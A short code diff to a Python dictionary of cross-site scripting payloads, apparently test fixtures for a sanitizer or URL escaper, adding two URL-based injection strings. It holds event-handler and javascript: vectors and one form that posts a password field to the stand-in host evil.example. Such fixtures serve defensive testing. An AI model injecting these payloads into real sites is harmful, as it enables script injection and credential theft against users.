@@ -11,7 +11,7 @@ PAYLOADS: dict[str, str] = {
     "image-slash": "<img/src=x/onerror=alert(1)>",
     "svg": "<svg/onload=alert(1)>",
     "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-    "math": '<math><mtext></p><img src onerror=alert(1)></mtext></math>',
+    "math": "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
     "frame": '<iframe src="javascript:alert(1)"></iframe>',
     "object": '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
     "form": '<form action="https://evil.example"><input name=password></form>',
@@ -103,6 +103,8 @@ PAYLOADS: dict[str, str] = {
     "half-address": "https://[",
     "https-quote": 'https://x.example/"onmouseover="alert(1)',
     "https-markup": "https://x.example/?a=1&b=<script>alert(1)</script>",
+    "https-page": "https://x.example/?a=1&b='2'&copy=%22%3Cb%3E",
+    "https-host": 'https://x"onclick="y',
     "https-blank": "https://x.example/ onclick=alert(1)",
     # Escaped already, styles, nothing.
     "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
